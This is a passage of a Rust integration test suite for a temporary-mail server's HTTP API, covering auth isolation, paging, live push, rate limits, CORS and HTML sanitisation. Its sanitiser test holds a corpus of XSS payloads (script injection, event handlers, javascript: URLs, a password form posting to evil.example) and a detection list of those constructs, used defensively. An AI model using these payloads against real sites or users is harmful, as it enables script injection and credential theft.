//! Integration tests of the public API over real HTTP against the real router, server
//! and store: every route, every error kind, token isolation, paging, live push with
//! resume, rate limits, the XSS corpus, and OpenAPI/route agreement.

mod support_api;

use std::time::Duration;

use futures_util::StreamExt;
use serde_json::{Value, json};
use support_api::{Api, DOMAIN, html_mail, text_mail};
use tempmx::api::public::{AccessMode, PublicConfig};

/// Defaults with rate limits high enough that only the rate-limit test meets them.
fn cfg() -> PublicConfig {
    PublicConfig {
        create_burst: 1000,
        reads_burst: 10_000,
        ..PublicConfig::default()
    }
}

fn problem_type(v: &Value) -> &str {
    v["type"].as_str().unwrap_or("")
}

async fn problem(r: reqwest::Response) -> (u16, Value) {
    let status = r.status().as_u16();
    let ct = r
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap_or("").to_owned());
    assert_eq!(
        ct.as_deref(),
        Some("application/problem+json"),
        "status {status}"
    );
    (status, r.json().await.expect("problem json"))
}

#[tokio::test]
async fn domains_and_mailbox_creation() {
    // Goal: creation works with defaults and with a chosen local part, and each invalid
    // request gets its own problem type. Method: one request per case.
    let api = Api::start(cfg()).await;
    let v: Value = api
        .http
        .get(api.url("/api/v1/domains"))
        .send()
        .await
        .expect("send")
        .json()
        .await
        .expect("json");
    assert_eq!(v["domains"], json!([DOMAIN]));

    let r = api
        .http
        .post(api.url("/api/v1/mailboxes"))
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 201);
    let v: Value = r.json().await.expect("json");
    let address = v["address"].as_str().expect("address");
    let (local, domain) = address.split_once('@').expect("@");
    assert_eq!(domain, DOMAIN);
    assert_eq!(local.len(), 14);
    assert!(
        local
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
    );
    assert_eq!(v["token"].as_str().expect("token").len(), 64);
    assert_eq!(v["max_messages"], 100);
    assert!(v["expires_at"].as_str().expect("expires").ends_with('Z'));

    let (a, _) = api
        .create(json!({"local_part": "Alice.Smith", "domain": DOMAIN, "ttl_seconds": 60}))
        .await;
    assert_eq!(a, "alice.smith@pool.test");

    let cases = [
        (json!({"local_part": "alice.smith"}), 409, "address-taken"),
        (json!({"local_part": "postmaster"}), 422, "invalid-address"),
        (
            json!({"local_part": "a".repeat(65)}),
            422,
            "invalid-address",
        ),
        (json!({"local_part": "a b"}), 422, "invalid-address"),
        (json!({"domain": "other.test"}), 422, "unknown-domain"),
        (json!({"ttl_seconds": 86_401}), 400, "bad-request"),
        (json!({"ttl_seconds": 0}), 400, "bad-request"),
        (json!({"bogus": 1}), 400, "bad-request"),
    ];
    for (body, status, kind) in cases {
        let r = api
            .http
            .post(api.url("/api/v1/mailboxes"))
            .json(&body)
            .send()
            .await
            .expect("send");
        let (s, p) = problem(r).await;
        assert_eq!(
            (s, problem_type(&p)),
            (status, format!("urn:tempmx:problem:{kind}").as_str()),
            "{body}"
        );
    }
    let r = api
        .http
        .post(api.url("/api/v1/mailboxes"))
        .body("{not json")
        .send()
        .await
        .expect("send");
    assert_eq!(problem(r).await.0, 400);
    let big = format!("{{\"local_part\":\"{}\"}}", "a".repeat(5000));
    let r = api
        .http
        .post(api.url("/api/v1/mailboxes"))
        .body(big)
        .send()
        .await
        .expect("send");
    let (s, p) = problem(r).await;
    assert_eq!(
        (s, problem_type(&p)),
        (413, "urn:tempmx:problem:body-too-large")
    );
}

#[tokio::test]
async fn registry_limit_answers_503() {
    // Goal: at `mailboxes_max` creation answers 503 with a problem.
    let api = Api::start(PublicConfig {
        mailboxes_max: 2,
        ..cfg()
    })
    .await;
    api.create(json!({})).await;
    api.create(json!({})).await;
    let r = api
        .http
        .post(api.url("/api/v1/mailboxes"))
        .send()
        .await
        .expect("send");
    let (s, p) = problem(r).await;
    assert_eq!(
        (s, problem_type(&p)),
        (503, "urn:tempmx:problem:unavailable")
    );
}

#[tokio::test]
async fn tokens_isolate_mailboxes() {
    // Goal: a token opens only its own mailbox; a wrong token, no token, an unknown
    // mailbox and another mailbox's message id all get the very same 404 body.
    let api = Api::start(cfg()).await;
    let (a, ta) = api.create(json!({})).await;
    let (b, tb) = api.create(json!({})).await;
    let id_b = api.deliver(&b, &text_mail("for b", "secret"));
    api.deliver(&a, &text_mail("for a", "hello"));

    let r = api
        .get(&format!("/api/v1/mailboxes/{a}/messages"), &ta)
        .await;
    let v: Value = r.json().await.expect("json");
    assert_eq!(v["messages"].as_array().expect("array").len(), 1);
    assert_eq!(v["messages"][0]["subject"], "for a");

    let unknown = api
        .get(&format!("/api/v1/mailboxes/nobody@{DOMAIN}/messages"), &ta)
        .await;
    let (s, reference) = problem(unknown).await;
    assert_eq!(s, 404);
    let attempts = [
        api.get(&format!("/api/v1/mailboxes/{b}/messages"), &ta)
            .await,
        api.http
            .get(api.url(&format!("/api/v1/mailboxes/{b}/messages")))
            .send()
            .await
            .expect("send"),
        api.get(&format!("/api/v1/mailboxes/{a}/messages/{id_b}"), &ta)
            .await,
        api.get(&format!("/api/v1/mailboxes/{a}/messages/{id_b}/raw"), &ta)
            .await,
        api.get(&format!("/api/v1/mailboxes/{b}/messages/{id_b}"), &ta)
            .await,
        api.get(&format!("/api/v1/mailboxes/{b}/messages?token={ta}"), "")
            .await,
    ];
    for r in attempts {
        let (s, p) = problem(r).await;
        assert_eq!((s, &p), (404, &reference));
    }
    let r = api
        .http
        .delete(api.url(&format!("/api/v1/mailboxes/{a}/messages/{id_b}")))
        .bearer_auth(&ta)
        .send()
        .await;
    assert_eq!(r.expect("send").status(), 404);
    assert!(
        api.store
            .contains(&tempmx_store::Mailbox::parse(&b).expect("address"), id_b),
        "b's message survives a's delete attempt"
    );
    let r = api
        .get(&format!("/api/v1/mailboxes/{b}/messages/{id_b}"), &tb)
        .await;
    assert_eq!(r.status(), 200);
}

#[tokio::test]
async fn paging_newest_first_with_cursor() {
    // Goal: pages are newest first, the cursor walks the whole mailbox without overlap,
    // `since` filters, and bad paging parameters get 400.
    let api = Api::start(cfg()).await;
    let (a, t) = api.create(json!({})).await;
    let ids: Vec<_> = (0..25)
        .map(|i| api.deliver(&a, &text_mail(&format!("m{i}"), "x")))
        .collect();
    let mut seen = Vec::new();
    let mut path = format!("/api/v1/mailboxes/{a}/messages?limit=10");
    for _ in 0..5 {
        let v: Value = api.get(&path, &t).await.json().await.expect("json");
        seen.extend(
            v["messages"]
                .as_array()
                .expect("array")
                .iter()
                .map(|m| m["id"].as_str().expect("id").to_owned()),
        );
        match v["next_before"].as_str() {
            Some(c) => path = format!("/api/v1/mailboxes/{a}/messages?limit=10&before={c}"),
            None => break,
        }
    }
    let want: Vec<String> = ids.iter().rev().map(ToString::to_string).collect();
    assert_eq!(seen, want);

    let v: Value = api
        .get(
            &format!("/api/v1/mailboxes/{a}/messages?since={}", ids[21]),
            &t,
        )
        .await
        .json()
        .await
        .expect("json");
    let got: Vec<&str> = v["messages"]
        .as_array()
        .expect("array")
        .iter()
        .map(|m| m["id"].as_str().expect("id"))
        .collect();
    assert_eq!(
        got,
        [
            ids[24].to_string(),
            ids[23].to_string(),
            ids[22].to_string()
        ]
    );
    let item = &v["messages"][0];
    for key in [
        "id",
        "from",
        "subject",
        "received_at",
        "expires_at",
        "size",
        "has_attachments",
        "auth",
    ] {
        assert!(item.get(key).is_some(), "{key}");
    }
    assert_eq!(item["from"], "Sender <from@sender.test>");

    for bad in ["limit=0", "limit=51", "before=zz", "since=-1"] {
        let r = api
            .get(&format!("/api/v1/mailboxes/{a}/messages?{bad}"), &t)
            .await;
        let (s, p) = problem(r).await;
        assert_eq!(
            (s, problem_type(&p)),
            (400, "urn:tempmx:problem:bad-request"),
            "{bad}"
        );
    }
    let r = api
        .get(&format!("/api/v1/mailboxes/{a}/messages?limit=50"), &t)
        .await;
    assert_eq!(r.status(), 200);
}

const MULTIPART: &str = "From: =?utf-8?q?J=C3=BCrgen?= <j@sender.test>\r\nTo: x@pool.test\r\nSubject: Invoice\r\n\
    MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: multipart/alternative; boundary=A\r\n\r\n\
    --A\r\nContent-Type: text/plain\r\n\r\nplain body\r\n--A\r\nContent-Type: text/html\r\n\r\n<p>html <b>body</b></p><img src=\"https://t.example/px.gif\">\r\n--A--\r\n\
    --B\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"inv\u{e9}.pdf\"\r\n\
    Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--B--\r\n";

#[tokio::test]
async fn message_detail_raw_html_and_attachments() {
    // Goal: the detail view, raw download, sanitised HTML document and attachment
    // download carry the right content and the required headers, and the listing shows
    // the From decoded at ingest.
    let api = Api::start(cfg()).await;
    let (a, t) = api.create(json!({})).await;
    let id = api.deliver(&a, MULTIPART);
    let base = format!("/api/v1/mailboxes/{a}/messages/{id}");
    let page: Value = api
        .get(&format!("/api/v1/mailboxes/{a}/messages"), &t)
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(page["messages"][0]["from"], "Jürgen <j@sender.test>");
    assert_eq!(page["messages"][0]["subject"], "Invoice");

    let v: Value = api.get(&base, &t).await.json().await.expect("json");
    assert_eq!(v["subject"], "Invoice");
    assert_eq!(v["from"][0]["name"], "Jürgen");
    assert_eq!(v["text"].as_str().map(str::trim), Some("plain body"));
    assert!(v["html"].as_str().expect("html").contains("<b>body</b>"));
    assert_eq!(v["remote_images_blocked"], 1);
    assert_eq!(v["attachments"][0]["filename"], "invé.pdf");
    assert_eq!(v["attachments"][0]["content_type"], "application/pdf");
    assert_eq!(v["attachments"][0]["size"], 9);
    assert_eq!(v["envelope"]["mail_from"], "from@sender.test");
    assert!(
        v["headers"]
            .as_array()
            .expect("headers")
            .iter()
            .any(|h| h["name"] == "Received")
    );
    for key in ["auth", "received_at", "expires_at", "html_url"] {
        assert!(v.get(key).is_some(), "{key}");
    }

    let r = api.get(&format!("{base}/raw"), &t).await;
    assert_eq!(r.headers()["content-type"], "message/rfc822");
    assert!(
        r.headers()["content-disposition"]
            .to_str()
            .expect("cd")
            .starts_with("attachment")
    );
    let raw = r.bytes().await.expect("bytes");
    assert!(raw.ends_with(MULTIPART.as_bytes()));
    assert!(raw.starts_with(b"Received: "));

    let url = v["attachments"][0]["url"].as_str().expect("url");
    let r = api.get(url, &t).await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "application/pdf");
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    let cd = r.headers()["content-disposition"]
        .to_str()
        .expect("cd")
        .to_owned();
    assert!(cd.starts_with("attachment; filename=\"inv_.pdf\""), "{cd}");
    assert_eq!(&r.bytes().await.expect("bytes")[..], b"%PDF-1.4\n");
    for bad in ["1", "x", "99999999999"] {
        assert_eq!(
            api.get(&format!("{base}/attachments/{bad}"), &t)
                .await
                .status(),
            404,
            "{bad}"
        );
    }

    let r = api.get(&format!("{base}/html"), &t).await;
    assert_eq!(r.headers()["content-type"], "text/html; charset=utf-8");
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .expect("csp")
        .to_owned();
    assert!(
        csp.contains("default-src 'none'") && csp.contains("sandbox"),
        "{csp}"
    );
    assert!(
        !csp.contains("https:"),
        "remote images blocked by default: {csp}"
    );
    assert!(!r.text().await.expect("text").contains("t.example"));
    let r = api
        .get(&format!("{base}/html?remote_images=true"), &t)
        .await;
    assert!(
        r.headers()["content-security-policy"]
            .to_str()
            .expect("csp")
            .contains("https:")
    );
    assert!(
        r.text()
            .await
            .expect("text")
            .contains("https://t.example/px.gif")
    );

    let text_id = api.deliver(&a, &text_mail("plain", "just text"));
    let r = api
        .get(
            &format!("/api/v1/mailboxes/{a}/messages/{text_id}/html"),
            &t,
        )
        .await;
    assert_eq!(r.status(), 404, "no HTML part");
}

/// A 1×1 PNG, base64.
const PNG_B64: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

fn related_mail() -> String {
    format!(
        "From: news@sender.test\r\nTo: x@pool.test\r\nSubject: Logo\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/related; boundary=R\r\n\r\n\
         --R\r\nContent-Type: text/html\r\n\r\n<p>hi</p><img src=\"cid:logo@sender.test\"><img src=\"cid:gone@sender.test\" alt=gone><img src=\"cid:vector@sender.test\" alt=vec>\r\n\
         --R\r\nContent-Type: image/png\r\nContent-ID: <logo@sender.test>\r\nContent-Transfer-Encoding: base64\r\n\r\n{PNG_B64}\r\n\
         --R\r\nContent-Type: image/svg+xml\r\nContent-ID: <vector@sender.test>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\r\n\
         --R--\r\n"
    )
}

#[tokio::test]
async fn cid_images_are_inlined() {
    // Goal: an inline image referenced by `cid:` shows in the sanitised HTML (as a data:
    // URI the frame's CSP allows) in both the detail and the frame document; an unknown
    // cid and an SVG part are dropped, and no `cid:` reaches the browser.
    let api = Api::start(cfg()).await;
    let (a, t) = api.create(json!({})).await;
    let id = api.deliver(&a, &related_mail());
    let base = format!("/api/v1/mailboxes/{a}/messages/{id}");
    let png = format!("src=\"data:image/png;base64,{PNG_B64}\"");

    let v: Value = api.get(&base, &t).await.json().await.expect("json");
    let html = v["html"].as_str().expect("html");
    assert!(html.contains(&png), "{html}");
    assert!(!html.contains("cid:") && !html.contains("svg"), "{html}");
    assert!(html.contains(r#"<img alt="gone">"#), "{html}");
    assert!(
        html.contains(r#"<img alt="vec">"#),
        "SVG parts are not inlined: {html}"
    );
    assert_eq!(v["remote_images_blocked"], 0);

    let r = api.get(&format!("{base}/html"), &t).await;
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .expect("csp")
        .to_owned();
    assert!(csp.contains("img-src data:"), "{csp}");
    let doc = r.text().await.expect("text");
    assert!(doc.contains(&png), "{doc}");
    assert!(!doc.contains("cid:") && !doc.contains("onload"), "{doc}");
}

#[tokio::test]
async fn mime_bounds_leave_raw_downloadable() {
    // Goal: a message over the part bound is not rendered, says why, and stays raw-downloadable.
    let api = Api::start(PublicConfig {
        mime_parts_max: 5,
        ..cfg()
    })
    .await;
    let (a, t) = api.create(json!({})).await;
    let parts: String = (0..8)
        .map(|i| format!("--B\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n"))
        .collect();
    let id = api.deliver(
        &a,
        &format!(
            "Subject: many\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n{parts}--B--\r\n"
        ),
    );
    let v: Value = api
        .get(&format!("/api/v1/mailboxes/{a}/messages/{id}"), &t)
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(v["render_error"], "more than 5 MIME parts");
    assert!(v["text"].is_null());
    assert_eq!(
        api.get(&format!("/api/v1/mailboxes/{a}/messages/{id}/raw"), &t)
            .await
            .status(),
        200
    );
}

#[tokio::test]
async fn deletes() {
    // Goal: deleting a message and a mailbox work once, then answer 404; a deleted
    // mailbox's token is dead and its address can be created again, empty.
    let api = Api::start(cfg()).await;
    let (a, t) = api.create(json!({"local_part": "del"})).await;
    let id1 = api.deliver(&a, &text_mail("1", "x"));
    api.deliver(&a, &text_mail("2", "x"));
    let path = format!("/api/v1/mailboxes/{a}/messages/{id1}");
    assert_eq!(
        api.http
            .delete(api.url(&path))
            .bearer_auth(&t)
            .send()
            .await
            .expect("send")
            .status(),
        204
    );
    assert_eq!(
        api.http
            .delete(api.url(&path))
            .bearer_auth(&t)
            .send()
            .await
            .expect("send")
            .status(),
        404
    );
    assert_eq!(api.get(&path, &t).await.status(), 404);

    let mpath = format!("/api/v1/mailboxes/{a}");
    assert_eq!(
        api.http
            .delete(api.url(&mpath))
            .bearer_auth(&t)
            .send()
            .await
            .expect("send")
            .status(),
        204
    );
    assert_eq!(
        api.http
            .delete(api.url(&mpath))
            .bearer_auth(&t)
            .send()
            .await
            .expect("send")
            .status(),
        404
    );
    assert_eq!(
        api.get(&format!("{mpath}/messages"), &t).await.status(),
        404
    );
    assert!(
        api.store
            .list(
                &tempmx_store::Mailbox::parse(&a).expect("address"),
                None,
                10
            )
            .is_empty()
    );

    api.deliver(&a, &text_mail("left over", "x"));
    let (again, t2) = api.create(json!({"local_part": "del"})).await;
    assert_eq!(again, a);
    let v: Value = api
        .get(&format!("{mpath}/messages"), &t2)
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(
        v["messages"],
        json!([]),
        "a new owner never sees earlier mail"
    );
}

/// Reads SSE frames until one `new_message` event arrives; returns (id, data).
async fn next_sse_event<S>(stream: &mut S, buf: &mut String) -> (String, Value)
where
    S: futures_util::Stream<Item = reqwest::Result<axum::body::Bytes>> + Unpin,
{
    for _ in 0..100 {
        while let Some(end) = buf.find("\n\n") {
            let frame: String = buf.drain(..end + 2).collect();
            let field = |name: &str| {
                frame
                    .lines()
                    .find_map(|l| l.strip_prefix(name))
                    .map(|v| v.trim_start().to_owned())
            };
            if field("event:").as_deref() == Some("new_message") {
                let data = serde_json::from_str(&field("data:").expect("data")).expect("json");
                return (field("id:").expect("id"), data);
            }
        }
        let chunk = tokio::time::timeout(Duration::from_secs(10), stream.next())
            .await
            .expect("event in time");
        buf.push_str(std::str::from_utf8(&chunk.expect("open").expect("chunk")).expect("utf8"));
    }
    panic!("no event in 100 chunks");
}

#[tokio::test]
async fn sse_push_and_resume() {
    // Goal: a subscriber gets new mail as `new_message` events; reconnecting with
    // Last-Event-ID replays exactly what it missed, then continues live.
    let api = Api::start(cfg()).await;
    let (a, t) = api.create(json!({})).await;
    api.deliver(&a, &text_mail("before", "x"));
    let url = api.url(&format!("/api/v1/mailboxes/{a}/events"));
    let r = api
        .http
        .get(&url)
        .bearer_auth(&t)
        .send()
        .await
        .expect("send");
    assert_eq!(r.headers()["content-type"], "text/event-stream");
    let mut s = r.bytes_stream();
    let mut buf = String::new();
    let first = api.deliver(&a, &text_mail("live one", "x"));
    let (id, data) = next_sse_event(&mut s, &mut buf).await;
    assert_eq!(
        id,
        first.to_string(),
        "the older message is not replayed without Last-Event-ID"
    );
    assert_eq!(data["subject"], "live one");
    drop(s);

    let missed: Vec<_> = (0..2)
        .map(|i| api.deliver(&a, &text_mail(&format!("missed {i}"), "x")))
        .collect();
    let r = api
        .http
        .get(&url)
        .bearer_auth(&t)
        .header("Last-Event-ID", first.to_string())
        .send()
        .await
        .expect("send");
    let mut s = r.bytes_stream();
    let mut buf = String::new();
    for want in &missed {
        assert_eq!(next_sse_event(&mut s, &mut buf).await.0, want.to_string());
    }
    let later = api.deliver(&a, &text_mail("later", "x"));
    assert_eq!(next_sse_event(&mut s, &mut buf).await.0, later.to_string());

    let r = api
        .http
        .get(&url)
        .bearer_auth(&t)
        .header("Last-Event-ID", "nothex")
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 400);
    let r = api
        .http
        .get(&url)
        .bearer_auth("wrong")
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 404);
}

#[tokio::test]
async fn shutdown_ends_live_push() {
    // Goal: stopping push ends open streams at once (so a graceful shutdown does not wait
    // for them) and refuses new ones with 503.
    let api = Api::start(cfg()).await;
    let (a, t) = api.create(json!({})).await;
    let url = api.url(&format!("/api/v1/mailboxes/{a}/events"));
    let r = api
        .http
        .get(&url)
        .bearer_auth(&t)
        .send()
        .await
        .expect("send");
    let mut s = r.bytes_stream();
    api.state.stop_push();
    let mut ended = false;
    for _ in 0..100 {
        match tokio::time::timeout(Duration::from_secs(5), s.next())
            .await
            .expect("ends in time")
        {
            None => {
                ended = true;
                break;
            }
            Some(chunk) => {
                chunk.expect("chunk");
            }
        }
    }
    assert!(ended, "stream closed");
    let (status, p) = problem(
        api.http
            .get(&url)
            .bearer_auth(&t)
            .send()
            .await
            .expect("send"),
    )
    .await;
    assert_eq!(
        (status, problem_type(&p)),
        (503, "urn:tempmx:problem:unavailable")
    );
}

#[tokio::test]
async fn websocket_push() {
    // Goal: the WebSocket endpoint carries the same events (token in the query string).
    let api = Api::start(cfg()).await;
    let (a, t) = api.create(json!({})).await;
    let url = format!(
        "{}/api/v1/mailboxes/{a}/ws?token={t}",
        api.base.replace("http://", "ws://")
    );
    let (mut ws, _) = tokio_tungstenite::connect_async(url.as_str())
        .await
        .expect("connect");
    let id = api.deliver(&a, &text_mail("over ws", "x"));
    for _ in 0..20 {
        let msg = tokio::time::timeout(Duration::from_secs(10), ws.next())
            .await
            .expect("in time");
        let msg = msg.expect("open").expect("frame");
        if let tokio_tungstenite::tungstenite::Message::Text(txt) = msg {
            let v: Value = serde_json::from_str(&txt).expect("json");
            assert_eq!(v["event"], "new_message");
            assert_eq!(v["id"], id.to_string());
            assert_eq!(v["message"]["subject"], "over ws");
            return;
        }
    }
    panic!("no text frame");
}

#[tokio::test]
async fn subscriber_limits() {
    // Goal: live-push connections beyond the per-mailbox bound get 429; closing one frees a slot.
    let api = Api::start(PublicConfig {
        subscribers_per_mailbox_max: 2,
        keepalive_secs: 1,
        ..cfg()
    })
    .await;
    let (a, t) = api.create(json!({})).await;
    let url = api.url(&format!("/api/v1/mailboxes/{a}/events"));
    let one = api
        .http
        .get(&url)
        .bearer_auth(&t)
        .send()
        .await
        .expect("send");
    let two = api
        .http
        .get(&url)
        .bearer_auth(&t)
        .send()
        .await
        .expect("send");
    assert_eq!((one.status().as_u16(), two.status().as_u16()), (200, 200));
    let (s, p) = problem(
        api.http
            .get(&url)
            .bearer_auth(&t)
            .send()
            .await
            .expect("send"),
    )
    .await;
    assert_eq!(
        (s, problem_type(&p)),
        (429, "urn:tempmx:problem:too-many-subscribers")
    );
    drop(one);
    let mut ok = false;
    for _ in 0..50 {
        tokio::time::sleep(Duration::from_millis(100)).await;
        if api
            .http
            .get(&url)
            .bearer_auth(&t)
            .send()
            .await
            .expect("send")
            .status()
            == 200
        {
            ok = true;
            break;
        }
    }
    assert!(ok, "slot freed after the client went away");
}

#[tokio::test]
async fn rate_limits_per_class() {
    // Goal: creation and reads are limited separately per IP; the refusal is a 429
    // problem with Retry-After.
    let cfg = PublicConfig {
        create_per_minute: 1,
        create_burst: 2,
        reads_per_second: 1,
        reads_burst: 3,
        ..Default::default()
    };
    let api = Api::start(cfg).await;
    let (a, t) = api.create(json!({})).await;
    api.create(json!({})).await;
    let r = api
        .http
        .post(api.url("/api/v1/mailboxes"))
        .send()
        .await
        .expect("send");
    assert_eq!(r.headers()["retry-after"], "60");
    let (s, p) = problem(r).await;
    assert_eq!(
        (s, problem_type(&p)),
        (429, "urn:tempmx:problem:rate-limited")
    );

    let path = format!("/api/v1/mailboxes/{a}/messages");
    for _ in 0..3 {
        assert_eq!(
            api.get(&path, &t).await.status(),
            200,
            "reads have their own bucket"
        );
    }
    let r = api.get(&path, &t).await;
    assert_eq!(r.status(), 429);
    assert_eq!(r.headers()["retry-after"], "1");
    assert_eq!(
        api.http
            .get(api.url("/"))
            .send()
            .await
            .expect("send")
            .status(),
        200,
        "the page is not an API read"
    );
}

/// Hostile HTML mails: each must come out with nothing that runs or phones home.
const XSS_CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<svg><script>alert(1)</script></svg><svg onload=alert(1)></svg>",
    "<div style=\"width:expression(alert(1))\">css</div>",
    "<div style=\"background:url(javascript:alert(1))\">css</div>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<form action=\"https://evil.example/steal\" method=post><input name=pw><button>Login</button></form>",
    "<img src=\"https://tracker.example/pixel.gif?u=1\" width=1 height=1>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x\">",
    "<body onload=alert(1)><p>x</p></body>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<p onmouseover=\"alert(1)\">hover</p>",
];

#[tokio::test]
async fn xss_corpus_is_neutralised() {
    // Goal: every hostile construct is removed from both the JSON `html` and the
    // served HTML document, which also carries the strict CSP.
    let api = Api::start(cfg()).await;
    let (a, t) = api.create(json!({})).await;
    let forbidden = [
        "<script",
        "onerror",
        "onload",
        "onmouseover",
        "javascript:",
        "expression(",
        "url(",
        "<meta",
        "<form",
        "<input",
        "<iframe",
        "<object",
        "<embed",
        "<style",
        "<base",
        "<link",
        "evil.example",
        "tracker.example",
        "data:text",
    ];
    for (i, html) in XSS_CORPUS.iter().enumerate() {
        let id = api.deliver(&a, &html_mail(&format!("xss {i}"), html));
        let base = format!("/api/v1/mailboxes/{a}/messages/{id}");
        let v: Value = api.get(&base, &t).await.json().await.expect("json");
        let json_html = v["html"].as_str().unwrap_or("").to_ascii_lowercase();
        let r = api.get(&format!("{base}/html"), &t).await;
        let csp = r.headers()["content-security-policy"]
            .to_str()
            .expect("csp")
            .to_owned();
        assert!(
            csp.starts_with("default-src 'none'") && csp.contains("sandbox"),
            "{csp}"
        );
        let doc = r.text().await.expect("doc").to_ascii_lowercase();
        // Our own wrapper has a <meta charset>; only the mail's part is checked.
        let doc = doc
            .split_once("<body>")
            .map(|(_, b)| b.to_owned())
            .expect("body");
        for out in [&json_html, &doc] {
            for bad in forbidden {
                assert!(!out.contains(bad), "case {i} `{html}` kept `{bad}`: {out}");
            }
        }
    }
}

#[tokio::test]
async fn public_mode_needs_no_token() {
    // Goal: in public mode any address on a pool domain is readable without a token;
    // other domains are still 404.
    let api = Api::start(PublicConfig {
        access: AccessMode::Public,
        ..cfg()
    })
    .await;
    let addr = format!("anyone@{DOMAIN}");
    let id = api.deliver(&addr, &text_mail("open", "x"));
    let r = api
        .http
        .get(api.url(&format!("/api/v1/mailboxes/{addr}/messages/{id}")))
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 200);
    let r = api
        .http
        .get(api.url("/api/v1/mailboxes/anyone@elsewhere.test/messages"))
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 404);
}

#[tokio::test]
async fn protocol_errors_are_problems() {
    // Goal: unknown routes, wrong methods and oversized headers get problem+json.
    let api = Api::start(PublicConfig {
        headers_bytes_max: 2048,
        ..cfg()
    })
    .await;
    let (s, p) = problem(
        api.http
            .get(api.url("/api/v1/nope"))
            .send()
            .await
            .expect("send"),
    )
    .await;
    assert_eq!((s, problem_type(&p)), (404, "urn:tempmx:problem:no-route"));
    let (s, p) = problem(
        api.http
            .put(api.url("/api/v1/domains"))
            .send()
            .await
            .expect("send"),
    )
    .await;
    assert_eq!(
        (s, problem_type(&p)),
        (405, "urn:tempmx:problem:method-not-allowed")
    );
    let r = api
        .http
        .get(api.url("/api/v1/domains"))
        .header("x-big", "a".repeat(3000))
        .send()
        .await
        .expect("send");
    let (s, p) = problem(r).await;
    assert_eq!(
        (s, problem_type(&p)),
        (431, "urn:tempmx:problem:headers-too-large")
    );
    let ok = api
        .http
        .get(api.url("/api/v1/domains"))
        .header("x-big", "a".repeat(1500))
        .send()
        .await
        .expect("send");
    assert_eq!(ok.status(), 200, "just under the bound");
}

#[tokio::test]
async fn cors_is_configurable() {
    // Goal: no CORS headers by default; a configured origin is allowed, others not.
    let api = Api::start(cfg()).await;
    let r = api
        .http
        .get(api.url("/api/v1/domains"))
        .header("origin", "https://app.test")
        .send()
        .await
        .expect("send");
    assert!(r.headers().get("access-control-allow-origin").is_none());
    let api = Api::start(PublicConfig {
        cors_origins: vec!["https://app.test".into()],
        ..cfg()
    })
    .await;
    let r = api
        .http
        .get(api.url("/api/v1/domains"))
        .header("origin", "https://app.test")
        .send()
        .await
        .expect("send");
    assert_eq!(
        r.headers()["access-control-allow-origin"],
        "https://app.test"
    );
    let r = api
        .http
        .get(api.url("/api/v1/domains"))
        .header("origin", "https://evil.test")
        .send()
        .await
        .expect("send");
    assert!(r.headers().get("access-control-allow-origin").is_none());
}

#[tokio::test]
async fn openapi_matches_routes() {
    // Goal: the generated OpenAPI 3.1 document lists exactly the API's routes, and every
    // (path, method) it lists is served. Method: call each with real parameter values and
    // check the answer is not "no route" / "method not allowed".
    let api = Api::start(cfg()).await;
    let doc: Value = api
        .http
        .get(api.url("/api/v1/openapi.json"))
        .send()
        .await
        .expect("send")
        .json()
        .await
        .expect("json");
    assert_eq!(doc["openapi"], "3.1.0");
    let (a, t) = api.create(json!({})).await;
    let id = api.deliver(&a, MULTIPART);
    let paths = doc["paths"].as_object().expect("paths");
    let mut listed: Vec<String> = Vec::new();
    for (path, item) in paths {
        for method in item.as_object().expect("item").keys() {
            listed.push(format!("{} {path}", method.to_uppercase()));
            let url = path
                .replace("{address}", &a)
                .replace("{id}", &id.to_string())
                .replace("{n}", "0");
            let m = reqwest::Method::from_bytes(method.to_uppercase().as_bytes()).expect("method");
            let r = if path.ends_with("/events") || path.ends_with("/ws") {
                // Streams: only the answer's head matters here.
                api.http
                    .request(m, api.url(&url))
                    .bearer_auth(&t)
                    .timeout(Duration::from_secs(2))
                    .send()
                    .await
            } else {
                api.http
                    .request(m, api.url(&url))
                    .bearer_auth(&t)
                    .send()
                    .await
            };
            let r = r.expect("send");
            let status = r.status().as_u16();
            assert_ne!(status, 405, "{method} {path}");
            if status == 404 {
                let v: Value = r.json().await.expect("json");
                assert_ne!(
                    problem_type(&v),
                    "urn:tempmx:problem:no-route",
                    "{method} {path}"
                );
            }
        }
    }
    listed.sort();
    let want = [
        "DELETE /api/v1/mailboxes/{address}",
        "DELETE /api/v1/mailboxes/{address}/messages/{id}",
        "DELETE /api/v1/mailboxes/{address}/webhooks/{id}",
